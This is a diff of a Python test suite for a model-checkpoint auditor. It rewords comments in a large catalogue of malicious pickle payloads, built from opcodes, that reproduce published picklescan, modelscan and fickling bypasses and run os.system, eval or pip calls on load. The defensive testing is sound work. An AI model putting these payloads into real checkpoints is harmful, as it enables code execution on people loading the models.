@@ -1,7 +1,7 @@
-"""Every published way round picklescan, modelscan and fickling is flagged, and nothing of it runs.
+"""Every published bypass of picklescan, modelscan and fickling is flagged, and the audit runs no payload.
 
-Each payload is built from opcodes, after the advisory above it. Those that can be made to would leave the file `PWNED`
-where they run.
+Each payload is built from opcodes after the advisory in the comment above the payload. Where possible, a payload that
+runs leaves the file `PWNED` in the current directory.
 """
 
 from __future__ import annotations
@@ -56,11 +56,11 @@ def method(module, name, *args):
 
 
 def unseen(body):
-    """fickling's: the result of a call given to a BUILD, and so a variable that is used."""
+    """fickling: the result of a call is given to a BUILD, and so its variable counts as used."""
     return body + b"}" + text("a") + number(1) + b"sb"
 
 
-# A name that a list of harmful names lacked. Advisory -> the pickle.
+# Names missing from a scanner's list of harmful names. Advisory -> the pickle.
 GADGETS = {
     # CVE-2025-1716, GHSA-655q-fx9r-782v
     "pip.main": four(call_function(stack_global("pip", "main"), b"](" + short("install") + short("nothing") + b"e")),
@@ -211,7 +211,7 @@ GADGETS = {
     ),
     # GHSA-vqmv-47xg-9wpr
     "pty.spawn": four(call_function(stack_global("pty", "spawn"), short(TOUCH))),
-    # GHSA-vvpj-8cmc-gx39: any name at all, given as text
+    # GHSA-vvpj-8cmc-gx39: any name, given as text
     "pkgutil.resolve_name": four(
         call_function(call_function(stack_global("pkgutil", "resolve_name"), short("os:system")), short(TOUCH))
     ),
@@ -322,7 +322,7 @@ GADGETS = {
     ),
     # GHSA-mxhj-88fx-4pcv: a call by OBJ whose result is thrown away
     "OBJ and POP": four(b"(" + stack_global("os", "system") + short(TOUCH) + b"o0N"),
-    # GHSA-mhc9-48gj-9gp3: REDUCE and then BUILD, of modules nobody had listed
+    # GHSA-mhc9-48gj-9gp3: REDUCE and then BUILD, of modules on no list
     "smtplib and BUILD": four(unseen(call_function(stack_global("smtplib", "SMTP"), short("localhost")))),
     "socketserver and BUILD": four(
         unseen(call_function(stack_global("socketserver", "TCPServer"), b"(" + short("") + number(0) + b"tN"))
@@ -389,11 +389,11 @@ GADGETS = {
         b"(S'" + CODE.replace("'", '"').encode() + b"'\nl",
     )
     + b".",
-    # Python 2's module, which pickle finds under its new name
+    # a module of Python 2; pickle finds the module under its new name
     "commands.getoutput": call_function(global_name("commands", "getoutput"), b"S'" + TOUCH.encode() + b"'\n") + b".",
     # cloudpickle's functions: code in an ordinary class's place
     # cloudpickle: code in an ordinary place
-    # behind a class's module is everything that it imports
+    # the module of a class also gives access to the imports of the module
     "through a clean module": four(
         call_function(
             stack_global("torch.nn.modules.linear", "torch.utils.cpp_extension.subprocess.Popen"), short(TOUCH)
@@ -423,12 +423,12 @@ SPELLED = call_function(
 
 
 def partial(function, *args):
-    """functools.partial."""
+    """Opcodes of `functools.partial(function, *args)`."""
     return call_function(stack_global("functools", "partial"), function, *args)
 
 
 def build_namespace(attribute, value):
-    """A SimpleNamespace with that attribute."""
+    """A SimpleNamespace with the given attribute."""
     return call_function(stack_global("types", "SimpleNamespace")) + b"}" + short(attribute) + value + b"sb"
 
 
@@ -438,25 +438,25 @@ SPECTRAL = stack_global("torch.nn.utils.spectral_norm", "SpectralNorm") + b")\x8
 
 
 def new(module, name):
-    """NEWOBJ: an empty object of that class."""
+    """NEWOBJ: an empty object of the given class."""
     return stack_global(module, name) + b")\x81"
 
 
 def attributes(**values):
-    """A dict of them."""
+    """A dict of the given values."""
     return b"}(" + b"".join(short(name) + value for name, value in values.items()) + b"u"
 
 
 def having(holder, **values):
-    """An empty object of that class, these its attributes."""
+    """An empty object of the given class with the given attributes."""
     return new(*holder) + attributes(**values) + b"b"
 
 
 def build_dtype(*state, code=b"", size=-1, flags=0):
-    """A dtype, told by `code`, that is given this state: subarray, names, fields, and these flags."""
-    made = call_function(stack_global("numpy", "dtype"), code, b"\x89", b"\x88")
+    """A dtype built from `code`, with the given state: subarray, names, fields, and flags."""
+    dtype = call_function(stack_global("numpy", "dtype"), code, b"\x89", b"\x88")
     parts = b"".join(state or (b"N", b"N", b"N"))
-    return made + b"(" + number(3) + short("|") + parts + number(size) + number(1) + number(flags) + b"tb"
+    return dtype + b"(" + number(3) + short("|") + parts + number(size) + number(1) + number(flags) + b"tb"
 
 
 def config(**other):
@@ -486,7 +486,7 @@ PLACEMENT = new("torch.distributed.tensor.placement_types", "Partial")
 WRITTEN = attributes(reduce_op=short("sum")) + b"b"
 SCRIPTED = new("torch", "ScriptObject")
 HANDLE = new("torch.utils.hooks", "RemovableHandle")
-#: One row of an optimizer's groups or states, a defaultdict; its factory is called for a key that it lacks.
+#: A row of an optimizer's groups or states: a defaultdict whose factory is called for a missing key.
 LISTS = call_function(stack_global("collections", "defaultdict"), stack_global("builtins", "list"))
 
 
@@ -505,7 +505,7 @@ def kept_weights():
 
 
 def convolution(module="torch.ao.nn.quantized.modules.conv", stride=(1, 1), dilation=(1, 1), groups=1):
-    """A quantized convolution, whose state is packed when it is loaded."""
+    """A quantized convolution. Loading packs its state."""
     sizes = number(4) + number(4) + numbers(3, 3) + numbers(*stride) + numbers(0, 0) + numbers(*dilation)
     rest = (
         b"\x89" + numbers(0, 0) + number(groups) + text("zeros") + kept_weights() + b"G\x3f\xf0" + bytes(6) + b"K\0\x89"
@@ -514,12 +514,12 @@ def convolution(module="torch.ao.nn.quantized.modules.conv", stride=(1, 1), dila
 
 
 def build_script_object(name, *state):
-    """An object of a class of C++, of this state."""
+    """An object of a C++ class with the given state."""
     return SCRIPTED + b"(" + b"".join(state) + b"t" + text(f"__torch__.torch.classes.{name}") + b"\x86b"
 
 
 def scripted_convolution(*values):
-    """Packed weights of a convolution with these numbers: dimensions, strides and so on, groups, flags."""
+    """Packed weights of a convolution with the given numbers: dimensions, strides and so on, groups, flags."""
     numbers_of = b"](" + b"".join(map(number, values)) + b"e"
     return build_script_object(
         "quantized.Conv2dPackedParamsBase", number(3), numbers_of, b"](N" + kept_weights() + b"e"
@@ -527,11 +527,11 @@ def scripted_convolution(*values):
 
 
 def optimizer(name, **state):
-    """An optimizer with these attributes, and no others that torch asks for."""
+    """An optimizer with the given attributes and `defaults`, but without other attributes that torch reads."""
     return new(f"torch.optim.{name.lower()}", name) + attributes(**{"defaults": b"}", **state}) + b"b"
 
 
-# What clean classes do when they are loaded, with objects of the pickle's where they expect plain values.
+# Clean classes on load, with objects of the pickle in place of plain values.
 METHODS = {
     "a recurrent module of 10**12 layers": new("torch.ao.nn.quantized.reference.modules.rnn", "LSTM")
     + attributes(num_layers=number(10**12))
@@ -546,7 +546,7 @@ METHODS = {
     "an object of TorchScript without one": b"}" + new("torch", "ScriptObject") + b"Ns",
     "a method by another name, given an element": config(append="save_pretrained") + short("PWNED") + b"a",
     "a method by another name, given a second state": config(__setstate__="save_pretrained") + short("PWNED") + b"b",
-    # The memory of an object of C++ that pickle makes is not written before its state.
+    # pickle creates an object of C++ whose memory is not written before its state.
     "a placement without a state": PLACEMENT,
     "a placement as a key": b"}" + PLACEMENT + b"Ns",
     "a placement as a key, before its state": b"}" + PLACEMENT + b"q\x05Nsh\x05" + WRITTEN + b"0",
@@ -572,7 +572,7 @@ METHODS = {
         ("torch.distributed.tensor.placement_types", "_MaskPartial"), reduce_op=short("sum")
     ),
     "an object of TorchScript in a tuple as a key": b"}" + SCRIPTED + b"q\x05\x85Nsh\x05" + b")N\x86b0",
-    # `RemovableHandle.next_id` is that of all hooks of the process.
+    # All hooks of the process share `RemovableHandle.next_id`.
     "a hook with the number infinity": HANDLE + b"NG\x7f\xf0" + bytes(6) + b"\x86b",
     "a hook with a number in a list": HANDLE + b"](NG\x7f\xf0" + bytes(6) + b"eb",
     "a hook with a tensor for its number": HANDLE + b"N" + tensor(size=(2**30,), stride=(0,)) + b"\x86b",
@@ -634,7 +634,7 @@ METHODS = {
         b"(" + stack_global("torch", "float32") + b"))\x89t",
         b"}" + COMPUTED + b"Ns",
     ),
-    # torch calls items() of either part of a state, and other code calls what an attribute is
+    # torch calls items() of both parts of a state, and other code calls the value of an attribute
     "contents that a call makes": call_function(
         stack_global("torch._tensor", "_rebuild_from_type_v2"),
         stack_global("torch._utils", "_rebuild_meta_tensor_no_storage"),
@@ -696,13 +696,13 @@ RELU = stack_global("torch.nn.functional", "relu")
 
 
 def put_off(function, *args, **kwargs):
-    """A partial as pickle writes it: what it holds is its state."""
+    """A partial in the form written by pickle: the function and its arguments are the state."""
     state = b"(" + function + b"(" + b"".join(args) + b"t" + attributes(**kwargs) + b"Nt"
     return call_function(stack_global("functools", "partial"), function) + state + b"b"
 
 
 def overwriting(path):
-    """A function that makes a configuration and has it write itself to that path, whatever it is called with."""
+    """A function that builds a configuration; the configuration then writes itself to `path`, for any arguments."""
     off = put_off(
         stack_global(*CONFIG), attribute_map=attributes(fill_=short("to_json_file")), note=short("of the attacker")
     )
@@ -717,25 +717,25 @@ def overwriting(path):
 
 
 def build_chain_map(*maps):
-    """A ChainMap of these."""
+    """A ChainMap of the given maps."""
     return having(("collections", "ChainMap"), maps=b"](" + b"".join(maps) + b"e")
 
 
 def join_operands(*operands):
-    """`|` of these, as pickle spells it."""
+    """`|` of the operands, as pickle spells the expression."""
     return call_function(
         stack_global("functools", "reduce"), stack_global("_operator", "or_"), b"](" + b"".join(operands) + b"e"
     )
 
 
 def optional(*operands):
-    """`typing.Optional` of these, as pickle spells it."""
+    """`typing.Optional` of the operands, as pickle spells the expression."""
     return call_function(
         stack_global("_operator", "getitem"), stack_global("typing", "Optional"), b"(" + b"".join(operands) + b"t"
     )
 
 
-# Methods of the pickle's own making, and calls that it puts off: each of these alone.
+# Methods built by the pickle, and deferred calls, each alone.
 HIDDEN = {
     "a file overwritten by |": join_operands(
         build_chain_map(having(("types", "SimpleNamespace"), copy=overwriting("PWNED"))), b"}"
@@ -822,7 +822,7 @@ HIDDEN = {
     "an array's interface": having(
         ("types", "SimpleNamespace"), __array_interface__=attributes(data=number(8) + b"\x89\x86")
     ),
-    # 2 GB an element, which no state has to say
+    # 2 GB for each element; the state need not contain this size
     "a type of numpy by a list": call_function(
         SCALAR, call_function(stack_global("numpy", "dtype"), b"](" + text("a") + text("V2000000000") + b"\x86e")
     ),
@@ -847,11 +847,11 @@ HIDDEN = {
         stack_global("torch.torch_version", "TorchVersion"), short(b"a-b"), short("punycode")
     ),
     "text by a codec that is computed": call_function(stack_global("_codecs", "encode"), text("a"), COMPUTED),
-    # uuid.UUID calls `replace` of what it is given
+    # uuid.UUID calls `replace` of its argument
     "a UUID of an object": call_function(
         stack_global("uuid", "UUID"), having(("types", "SimpleNamespace"), replace=RELU)
     ),
-    # the codec `idna` calls `encode` of what it is given
+    # the codec `idna` calls `encode` of its argument
     "an object encoded": call_function(
         stack_global("_codecs", "encode"), having(("types", "SimpleNamespace"), encode=RELU), short("idna")
     ),
@@ -861,7 +861,7 @@ HIDDEN = {
     "a fraction of an object by its __new__": call_function(
         stack_global("copyreg", "__newobj__"), stack_global("fractions", "Fraction"), SPACED
     ),
-    # the tensor calls `size` of what it wraps
+    # the tensor calls `size` of the wrapped object
     "a tensor of an object": call_function(
         stack_global("torch.distributed._functional_collectives", "AsyncCollectiveTensor"), SPACED
     ),
@@ -900,9 +900,9 @@ STATE, GENERATOR, BITS = (
     stack_global(RANDOM, name) for name in ("__randomstate_ctor", "__generator_ctor", "__bit_generator_ctor")
 )
 FROM_TYPE, TENSOR = stack_global("torch._tensor", "_rebuild_from_type_v2"), stack_global("torch", "Tensor")
-# Clean functions that call a class which is given to them, by themselves and through each other.
+# Clean functions that call a class passed as argument, alone and through each other.
 INDIRECT = {
-    # numpy reads the state behind a null pointer
+    # numpy reads the state through a null pointer
     "a bit generator without its state": stack_global("numpy.random._pcg64", "PCG64") + b")\x81",
     "a bit generator without its state as a copy makes it": call_function(
         stack_global("copyreg", "__newobj__"), stack_global("numpy.random._philox", "Philox")
@@ -964,33 +964,33 @@ MODULE_PARTS = {"_parameters": b"}", "_buffers": b"}", "_modules": b"}"} | dict.
 
 
 def of_module(holder, **values):
-    """A module of that class with the dicts that each has, and these attributes."""
+    """A module of the given class with the dicts of every module, and the given attributes."""
     return having(holder, **(MODULE_PARTS | values))
 
 
 def pairs(**values):
-    """A list of pairs, which `dict.update` takes as it takes a dict."""
+    """A list of pairs; `dict.update` accepts pairs as well as a dict."""
     return b"](" + b"".join(short(name) + value + b"\x86" for name, value in values.items()) + b"e"
 
 
 def build_ordered_dict(key, value):
-    """An OrderedDict with that item."""
+    """An OrderedDict with a single item."""
     return call_function(stack_global("collections", "OrderedDict")) + key + value + b"s"
 
 
 def calling(function, state=attributes):
-    """An optimizer that calls the function for each parameter when it is loaded."""
+    """An optimizer that calls the function for each parameter on load."""
     groups = b"]" + attributes(params=b"]" + number(0) + b"a") + b"a"
     return new("torch.optim.adadelta", "Adadelta") + state(defaults=b"}", param_groups=groups, state=function) + b"b"
 
 
 def wrap_function(function):
-    """A DataParallel without devices, which calls what it has for its module."""
+    """A DataParallel without devices, with the function in place of its module."""
     return of_module(PARALLEL, device_ids=b"]", module=function)
 
 
 def getting(function):
-    """An OrderedDict of which an attribute hides the method `get`."""
+    """An OrderedDict with an attribute that hides the method `get`."""
     return call_function(stack_global("collections", "OrderedDict")) + attributes(get=function) + b"b"
 
 
@@ -1000,7 +1000,7 @@ def named_arguments(function, *args, **kwargs):
 
 
 def build_mapping(key, value):
-    """A dict with that item."""
+    """A dict with a single item."""
     return b"}" + key + value + b"s"
 
 
@@ -1012,7 +1012,7 @@ STORAGE, FLOATS = stack_global("torch.storage", "UntypedStorage"), stack_global(
 NEWOBJ_EX = stack_global("copyreg", "__newobj_ex__")
 DUNDER = "__array_interface__"
 CODED = call_function(stack_global("numpy", "dtype"), short("U9"), b"\x89", b"\x88")
-#: Texts that calls make: as a key each of them is found by the name.
+#: Texts built by calls: a lookup of the name finds a key of each kind.
 TEXTS = {
     "str": call_function(stack_global("builtins", "str"), short("__array__")),
     "str of numpy": call_function(stack_global("numpy", "str_"), short("__array__")),
@@ -1040,7 +1040,7 @@ STATES = {
     "an average whose module is a function": having(
         ("torch.optim.swa_utils", "AveragedModel"), **MODULE_PARTS, module=PRINT
     ),
-    # what can be called is more than functions
+    # not only functions can be called
     "an optimizer that calls a DataParallel": calling(getting(wrap_function(PRINT))),
     "a DataParallel as forward": of_module(IDENTITY_MODULE, forward=wrap_function(of_module(IDENTITY_MODULE))),
     "a DistributedDataParallel as a method": getting(
@@ -1085,7 +1085,7 @@ STATES = {
             ("torch.utils.data.dataset", "Subset"), dataset=attributes(k=PRINT), indices=attributes(a=short("k"))
         ),
     ),
-    # torch and numpy look while the state is another than in the end
+    # torch and numpy read the state before its last change
     "a state that is changed afterwards": calling(getting(wrap_function(PRINT)))[:-1]
     + b"q\x07bh\x07"
     + short("state")
@@ -1120,7 +1120,7 @@ STATES = {
     + number(0)
     + PRINT
     + b"s",
-    # code looks these up
+    # code looks up the attributes below
     "modules as buffers": of_module(IDENTITY_MODULE, _buffers=attributes(a=of_module(IDENTITY_MODULE))),
     "a module with an interface among its buffers": call_function(
         MASKED, b"]]" + of_module(IDENTITY_MODULE, _buffers=attributes(**{DUNDER: INTERFACE})) + b"aa"
@@ -1180,11 +1180,11 @@ OLD_NAMES = {
 
 
 def given_back(*parts):
-    """A persistent id of these parts: of most tuples torch gives back the first part in a tar archive."""
+    """A persistent id of the given parts. In a tar archive, torch returns the first part of most tuples."""
     return b"(" + b"".join(parts) + b"tQ"
 
 
-#: A module whose state torch gives back, and statecli takes for a storage.
+#: A module whose state torch returns and statecli reads as a storage.
 TORN = new(*FUSED) + given_back(attributes(**MODULE_PARTS, get=PRINT), short("")) + b"b"
 # Persistent ids that torch does not write, in data.pkl and in the pickle of a tar.
 IDS = {
@@ -1197,7 +1197,7 @@ IDS = {
     "a storage without a type": given_back(short("storage"), attributes(a=PRINT), short("0"), short("cpu"), number(4)),
 }
 
-# Clean names put to another use than to hold data: ours, no advisory's.
+# Clean names put to other uses than data. Our own payloads; no advisory describes them.
 MODULE = stack_global("torch.nn.modules.linear", "Identity") + b")\x81"
 FLOWS = {
     "a tensor rebuilt from a module, which as_subclass makes the class whose attributes the state sets": four(
@@ -1322,7 +1322,7 @@ FLOWS = {
     **OLD_NAMES,
 }
 
-# A stream that a scanner's own reading of the opcodes took for another one.
+# Streams of opcodes that a scanner read differently from pickle.
 STREAMS = {
     # picklescan issue 22: memo entries out of order
     "memo out of order": b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V"
@@ -1372,11 +1372,11 @@ STREAMS = {
     "INST": b"(S'" + CODE.replace("'", '"').encode() + b"'\ni__builtin__\neval\n.",
     "NEWOBJ": four(stack_global("os", "system") + short(TOUCH) + b"\x85\x81"),
     "NEWOBJ_EX": four(stack_global("os", "system") + short(TOUCH) + b"\x85}\x92"),
-    # a name behind the call that no module has, so that all of it passes for text
+    # after the call, a name of no module, so that the whole stream passes for text
     "an odd name behind the call": b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR0c!x\n!y\n.",
     "an odd name that is no text": b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR0c\xff\n\xff\n.",
     "an odd name before the call": b"c!x\n!y\n0cos\nsystem\n(V" + TOUCH.encode() + b"\ntR.",
-    # what no honest pickle does, to be left unread, and then the call
+    # an opcode of no honest pickle, to stop the scanner, and then the call
     "odd arguments": four(
         stack_global("builtins", "list") + call_function(stack_global("builtins", "tuple"), b"]") + b"R0" + SYSTEM
     ),
@@ -1398,7 +1398,7 @@ STREAMS = {
 
 
 def archive(pickle, **fields):
-    """An ordinary archive with that data.pkl."""
+    """An ordinary archive with the given pickle as data.pkl."""
     members = records(pickle)
     for name, value in fields.items():
         setattr(members[0], name, value)
@@ -1409,13 +1409,13 @@ EVIL = state_dict(w=tensor(), x=SYSTEM)
 
 
 def rename_record(data, old, new):
-    """The first of two places that name a record changed: that of its local header."""
+    """Change the first of the two places with the name of a record: the local header."""
     assert data.count(old) == 2
     return data.replace(old, new, 1)
 
 
 def build_misleading():
-    """fickling's and modelscan's: a bad record before the pickle, which ended their reading of the archive."""
+    """From fickling and modelscan: a bad record before the pickle stopped their reading of the archive."""
     bad = Member("archive/first", b"abc", local_signature=b"XXXX")
     return build([bad, *records(EVIL)])
 
@@ -1435,7 +1435,7 @@ EQUAL_NUMBERS = {
 
 
 def numpy(header, pickle):
-    """An array file with that header."""
+    """An array file with the given header and pickle."""
     return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + pickle
 
 
@@ -1454,7 +1454,7 @@ HEADERS = {
 
 
 def tar(**members):
-    """A tar of these members, as torch wrote before 0.1.10."""
+    """A tar of the given members, in the format of torch before 0.1.10."""
     written = io.BytesIO()
     with tarfile.open(fileobj=written, mode="w") as archive:
         for name, data in members.items():
@@ -1469,17 +1469,17 @@ TAR = tar(storages=NOTHING + build_pickle(b"]"), tensors=NOTHING, pickle=build_p
 
 # A file that a scanner did not open, or not to the end.
 FILES = {
-    # CVE-2025-1889: a pickle under a name that is none's
+    # CVE-2025-1889: a pickle under an unknown name
     "another name": build([*records(), Member("archive/config.json", build_pickle(SYSTEM))]),
     # CVE-2025-1889
     "without a suffix": build([*records(), Member("archive/data/hook", build_pickle(SYSTEM))]),
     # CVE-2025-1944, GHSA-7q5r-7gvp-wc82: the local header names another record
     "another name in the local header": rename_record(archive(EVIL), b"archive/data.pkl", b"archive/datap.kl"),
-    # CVE-2025-1945, GHSA-w8jq-xcqf-f792: bits that say it is encrypted
+    # CVE-2025-1945, GHSA-w8jq-xcqf-f792: bits that mark the record as encrypted
     "flag 0x1": archive(EVIL, flags=0x0809),
     "flag 0x20": archive(EVIL, flags=0x0828),
     "flag 0x40": archive(EVIL, flags=0x0848),
-    # CVE-2025-10156, GHSA-mjqp-26hc-grxg: a checksum that is wrong
+    # CVE-2025-10156, GHSA-mjqp-26hc-grxg: a wrong checksum
     "a wrong checksum": archive(EVIL, crc=0x12345678),
     # CVE-2025-10155, GHSA-jgw4-cr84-mqxg: a bare pickle named .bin
     "a bare pickle": build_pickle(SYSTEM),
@@ -1514,7 +1514,7 @@ FILES = {
     **{f"a legacy stream with the id of {name}": legacy(build_pickle(body), []) for name, body in IDS.items()},
     "a tar, and a pickle that says no protocol": tar(storages=SYSTEM + b"."),
     "one of several archives": build(records()) + archive(EVIL) + build(records()),
-    # a stream of torch's by another beginning than torch writes, and a pickle in it that says no protocol
+    # a legacy stream with an unusual first pickle, and a pickle without a protocol opcode
     "a legacy stream with another first pickle": MAGIC
     + build_pickle(number(1001))
     + build_pickle(b"}")
@@ -1550,7 +1550,7 @@ ALL = {
 
 @pytest.mark.parametrize("kind", sorted({name.partition(":")[0] for name in ALL}))
 def test_a_published_bypass_is_flagged_and_does_not_run(kind, tmp_path, in_tmp_path):
-    """An error of `unsafe-global`; no file is made, no module imported."""
+    """`unsafe-global` reports an error. No file is created, and no module is imported."""
     names = [name for name in ALL if name.startswith(f"{kind}:")]
     before = set(sys.modules)
     for index, name in enumerate(names):
@@ -1566,14 +1566,14 @@ def test_a_published_bypass_is_flagged_and_does_not_run(kind, tmp_path, in_tmp_p
         path.unlink()
 
 
-# DeepSpeedPlugin reads the environment and a file when it is made; here it makes a file.
+# DeepSpeedPlugin reads the environment and a file when created; here the plugin creates a file.
 CALLS_THE_PLUGIN = """
 import pickle
 from accelerate.utils.dataclasses import DeepSpeedPlugin
 DeepSpeedPlugin.__post_init__ = lambda self: open('PWNED', 'w')
 pickle.load(open('model.bin', 'rb'))
 """
-# Hooks of the process that loads it, by their numbers: the file makes the second one remove the first.
+# The file sets the number of the next hook, so that the second hook of the process replaces the first.
 HOOKS = """
 import pickle, torch
 pickle.load(open('model.bin', 'rb'))
@@ -1588,16 +1588,16 @@ if ran == ['b']:
 CALLS_PRINT = """
 import builtins, pickle, torch
 builtins.print = lambda *_, **__: open('PWNED', 'w')
-made = LOAD
-if isinstance(made, torch.nn.Module):
-    made(1)
+loaded = LOAD
+if isinstance(loaded, torch.nn.Module):
+    loaded(1)
 """
 CALLS_IN_PICKLE = CALLS_PRINT.replace("LOAD", "pickle.load(open('model.bin', 'rb'))")
 CALLS_IN_ARCHIVE = CALLS_PRINT.replace("LOAD", "torch.load('model.bin', weights_only=False)")
 LOADS_ARCHIVE = "import torch; torch.load('model.bin', weights_only=False)"
-# On processors with VNNI torch takes onednn, which refuses what fbgemm divides by.
+# On processors with VNNI torch uses onednn, which refuses the numbers by which fbgemm divides.
 LOADS_WITH_FBGEMM = f"import torch; torch.backends.quantized.engine = 'fbgemm'; {LOADS_ARCHIVE}"
-# What loads some of the above, to see that they would do it; the process makes a file, or dies.
+# Code that loads some payloads above, to show that the attacks work: the process creates a file, or dies.
 LOADED = {
     **{
         f"flow: {name}": "import pickle, torch; pickle.load(open('model.bin', 'rb'))"
@@ -1636,14 +1636,14 @@ LOADED = {
 
 
 def run_with_filled_memory(code, cwd):
-    """What the code does in a process that starts again, whose unwritten memory never reads as zero."""
+    """Run the code in a new process whose unwritten memory never reads as zero."""
     environment = {**os.environ, "PYTHONMALLOC": "malloc", "MALLOC_PERTURB_": "165"}
     return subprocess.run([sys.executable, "-c", code], cwd=cwd, env=environment, capture_output=True, timeout=120)
 
 
 @pytest.mark.parametrize("name", LOADED)
 def test_what_is_flagged_does_harm_where_it_is_loaded(name, tmp_path, forked_python):
-    """The libraries that are installed still do what the attack wants of them."""
+    """With the installed libraries, each attack still works."""
     if "method" in name or "overwritten" in name:
         pytest.importorskip("transformers")
     if LOADED[name] == CALLS_THE_PLUGIN:
@@ -1651,13 +1651,13 @@ def test_what_is_flagged_does_harm_where_it_is_loaded(name, tmp_path, forked_pyt
     (tmp_path / "model.bin").write_bytes(ALL[name])
     run = run_with_filled_memory if "without one" in name else forked_python
     done = run(LOADED[name], cwd=tmp_path)
-    # What lies behind a tuple that is too short decides whether the process dies, or Python sees the broken call.
+    # The memory after a short tuple decides whether the process dies or Python sees the broken call.
     broken_call = "too short" in name and "returned a result with an exception set" in str(done.stderr)
     assert (tmp_path / "PWNED").exists() or done.returncode < 0 or broken_call
 
 
 def test_what_is_no_checkpoint_has_failed_as_well(tmp_path):
-    """A bare pickle is not audited for having been scanned."""
+    """A scan alone is not an audit: a bare pickle fails."""
     paths = [tmp_path / f"{index}.pt" for index in range(len(GADGETS))]
     for path, data in zip(paths, GADGETS.values(), strict=True):
         path.write_bytes(data)
@@ -1667,7 +1667,7 @@ def test_what_is_no_checkpoint_has_failed_as_well(tmp_path):
 
 
 class _Extra(torch.nn.Linear):
-    """A layer with the line of TransformerEngine that loads its extra state."""
+    """A layer with the line of TransformerEngine that loads extra state."""
 
     def get_extra_state(self):
         return torch.empty(0, dtype=torch.uint8)
@@ -1677,7 +1677,7 @@ class _Extra(torch.nn.Linear):
 
 
 def _write_extra_state(folder, kind: str, data: bytes) -> str:
-    """A checkpoint of one layer in a format."""
+    """Write a checkpoint of a single layer in a format."""
     extra = torch.frombuffer(bytearray(data + b"." * (-len(data) % 4)), dtype=torch.uint8)
     state = {"0.weight": torch.ones(2, 2), "0.bias": torch.ones(2), "0._extra_state": extra}
     path = folder / ("model.safetensors" if kind == "safetensors" else "model.pt")
@@ -1718,6 +1718,6 @@ def test_an_extra_state_is_unpickled_in_any_format(tmp_path, in_tmp_path, kind, 
     ids=["a pickle", "JSON", "bytes", "two bytes"],
 )
 def test_an_honest_extra_state_is_no_finding(tmp_path, kind, data):
-    """Other modules keep what they like in it."""
+    """Other modules keep arbitrary data in the extra state."""
     (target,) = audit(Request((_write_extra_state(tmp_path, kind, data),))).targets
     assert [finding for finding in target.findings if finding.severity >= Severity.WARNING] == []
